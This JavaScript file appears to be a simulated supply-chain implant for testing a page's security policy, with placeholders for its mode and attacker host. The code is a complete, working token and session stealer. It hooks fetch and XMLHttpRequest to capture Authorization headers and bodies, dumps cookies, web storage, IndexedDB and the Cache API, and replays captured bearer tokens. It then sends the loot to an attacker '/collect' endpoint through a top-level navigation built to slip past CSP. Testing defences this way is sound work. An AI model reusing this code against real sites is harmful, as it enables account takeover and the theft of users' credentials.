
/* The attacker's script, as a compromised dependency would carry it. It runs inside the page's own policy. */
(() => {
  "use strict";
  const mode = "%MODE%";
  const evil = "%EVIL%";
  const seen = [];
  const headers = [];
  const note = (place, text) => { if (typeof text === "string" && text.length > 0) seen.push([place, text]); };

  const original = window.fetch.bind(window);
  window.fetch = async (input, init) => {
    try {
      const request = new Request(input, init);
      const line = [];
      request.headers.forEach((value, name) => line.push([name, value]));
      headers.push({ url: request.url, headers: line });
      note("request headers", JSON.stringify(line));
      const sent = init && init.body;
      if (sent) note("request body", String(sent));
    } catch { /* the page must not notice */ }
    const response = await original(input, init);
    response.clone().text().then((text) => note("response body", text)).catch(() => {});
    return response;
  };
  const open = XMLHttpRequest.prototype.setRequestHeader;
  XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
    note("request headers", `${name}: ${value}`);
    return open.call(this, name, value);
  };

  const databases = async () => {
    if (!indexedDB.databases) return;
    for (const { name } of await indexedDB.databases()) {
      await new Promise((done) => {
        const asked = indexedDB.open(name);
        asked.onerror = done;
        asked.onsuccess = () => {
          const stores = [...asked.result.objectStoreNames];
          if (stores.length === 0) return done();
          const reading = asked.result.transaction(stores);
          reading.oncomplete = done;
          reading.onerror = done;
          for (const store of stores) {
            const all = reading.objectStore(store).getAll();
            all.onsuccess = () => note("IndexedDB", JSON.stringify(all.result));
          }
        };
      });
    }
  };

  const sweep = async () => {
    note("document.cookie", document.cookie);
    note("localStorage", JSON.stringify({ ...localStorage }));
    note("sessionStorage", JSON.stringify({ ...sessionStorage }));
    note("window.name", window.name);
    note("address", location.href);
    note("history.state", JSON.stringify(history.state));
    note("document", document.documentElement.outerHTML);
    for (const key of Object.getOwnPropertyNames(window)) {
      try {
        const value = window[key];
        if (typeof value === "string") note("global", value);
        else if (value && typeof value === "object" && Object.getPrototypeOf(value) === Object.prototype) note("global", JSON.stringify(value));
      } catch { /* not every global can be read */ }
    }
    for (const name of await caches.keys()) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) note("Cache API", await (await cache.match(request)).text());
    }
    await databases();
    for (const path of ["/bff/user", "/bff/tokens", "/api/accounts", "/settings.json", "/"]) {
      try {
        note(`asked ${path}`, await (await original(path, { headers: { "X-CSRF": "1" } })).text());
      } catch { /* an application without such a path */ }
    }
  };

  const ride = async () => {
    let accepted = 0;
    const bearer = headers.find((sent) => sent.headers.some(([name]) => name.toLowerCase() === "authorization"));
    const target = bearer ? bearer.url : "/api/accounts";
    const carried = bearer ? Object.fromEntries(bearer.headers) : { "X-CSRF": "1" };
    for (let n = 0; n < 100; n += 1) {
      try {
        if ((await original(target, { headers: carried })).ok) accepted += 1;
      } catch { /* refused */ }
    }
    document.documentElement.dataset.ridden = String(accepted);
  };

  const finished = async () => {
    /* One cycle of the page's own calls must have gone by before the sweep. */
    await new Promise((done) => setTimeout(done, 150));
    if (mode === "ride") return ride();
    await sweep();
    if (mode === "read") {
      window.implantLoot = seen;
      document.documentElement.dataset.swept = String(seen.length);
      return;
    }
    const loot = JSON.stringify(seen.filter(([place]) => place !== "document"));
    /* No policy of the page forbids a top-level navigation; the loot travels in the fragment. */
    location.assign(`${evil}/collect#${encodeURIComponent(loot)}`);
  };

  let started = false;
  const watch = new MutationObserver(() => {
    if (!started && document.documentElement.dataset.state === "signed-in") {
      started = true;
      finished();
    }
  });
  watch.observe(document.documentElement, { attributes: true });
})();
